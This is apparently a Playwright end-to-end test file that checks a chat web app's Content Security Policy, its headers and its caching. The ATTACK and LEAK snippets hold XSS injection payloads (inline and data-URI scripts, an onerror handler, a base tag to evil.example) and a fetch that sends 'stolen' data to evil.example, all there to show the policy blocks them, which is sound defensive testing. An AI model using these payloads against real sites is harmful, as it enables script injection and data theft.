"""What a page may run and load: its policy, in a browser that holds to it."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import expect

from tests.e2e.app import App
from tests.e2e.conftest import People
from tests.e2e.window import finished, send, words

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="package")]

REPORTED = "Content Security Policy"

# What an attacker would do who could put markup into a page after all.
ATTACK = """
async () => {
  const script = document.createElement("script");
  script.textContent = "window.bad = 'inline'";
  document.body.append(script);
  const elsewhere = document.createElement("script");
  elsewhere.src = "data:text/javascript,window.bad='data'";
  document.body.append(elsewhere);
  document.body.insertAdjacentHTML("beforeend", "<img src='/none' onerror='window.bad = 1'>");
  document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc='<p>framed</p>'></iframe>");
  const base = document.createElement("base");
  base.href = "https://evil.example/";
  document.head.append(base);
  setTimeout("window.bad = 'text'");
  await new Promise((done) => setTimeout(done, 200));
  return [window.bad ?? null, new URL("x", document.baseURI).host];
}
"""

LEAK = """
async () => {
  try {
    await fetch("https://evil.example/?stolen=1", { mode: "no-cors" });
    return "left";
  } catch {
    return "kept";
  }
}
"""


@pytest.mark.parametrize("path", ["/chat", "/login", "/there-is-nothing", "/api/docs"])
async def test_no_page_runs_what_is_not_its_own(app: App, people: People, path: str) -> None:
    """XSS through Markdown, HTML, Mermaid, data URIs and SVG."""
    people.watch.allow(REPORTED, r"\b404\b")
    bob = await people.user(app) if path == "/chat" else await people.visitor(app, "bob")
    page = await bob.tab(path)
    await page.wait_for_load_state("networkidle")
    bad, host = await page.evaluate(ATTACK)
    assert (bad, host) == (None, f"127.0.0.1:{app.port}")
    # Each attempt is reported: so a page that needs what is forbidden fails its tests.
    told = [each for each in people.watch.problems if REPORTED in each]
    for attempt in (
        "inline script",
        "data:text/javascript",
        "inline event handler",
        "as JavaScript",
    ):
        assert any(attempt in each for each in told), (attempt, told)
    assert await page.evaluate(LEAK) == "kept"


async def test_every_page_comes_with_a_policy_and_is_kept_nowhere(app: App, people: People) -> None:
    bob = await people.user(app)
    for path in ("/", "/chat", "/chat/", "/account", "/there-is-nothing", "/chat/0199"):
        answer = await bob.context.request.get(f"{app.url}{path}")
        policy = answer.headers["content-security-policy"]
        scripts = re.search(r"script-src ([^;]+)", policy)
        assert scripts is not None, path
        assert "'sha256-" in scripts[1]
        assert "unsafe" not in scripts[1]
        assert answer.headers["cache-control"] == "no-store"


async def test_a_page_under_its_policy_works_whole(app: App, people: People) -> None:
    # `people` fails this where anything was refused.
    bob = await people.user(app)
    page, _ = await bob.tab_with_chat()
    await send(page, "say:The square of $x$ is $x^2$.\n\n```python\nprint(1)\n```")
    await finished(page)
    await expect(words(page).locator(".katex").first).to_be_visible()
    await expect(words(page).locator("pre")).to_contain_text("print(1)")
    await page.goto(f"{app.url}/account")
    # An event of the server's that comes as a call: news of what was saved.
    await expect(page.get_by_test_id("account-username")).not_to_have_value("")
    await page.get_by_test_id("account-username").fill("Roberta")
    await page.keyboard.press("Enter")
    await expect(page.get_by_test_id("news").first).to_be_visible()


async def test_the_page_of_the_api_tries_a_call_out(app: App, people: People) -> None:
    bob = await people.user(app)
    page = await bob.tab("/api/docs")
    operation = page.locator(".opblock").filter(has_text="/api/v1/models").first
    # It draws all that the operation can answer before it comes back.
    await operation.locator(".opblock-summary-control").click(timeout=60_000)
    await operation.get_by_role("button", name="Try it out").click()
    await operation.get_by_role("button", name="Execute").click()
    await expect(
        operation.locator(".live-responses-table tbody .response-col_status").first
    ).to_contain_text("200")
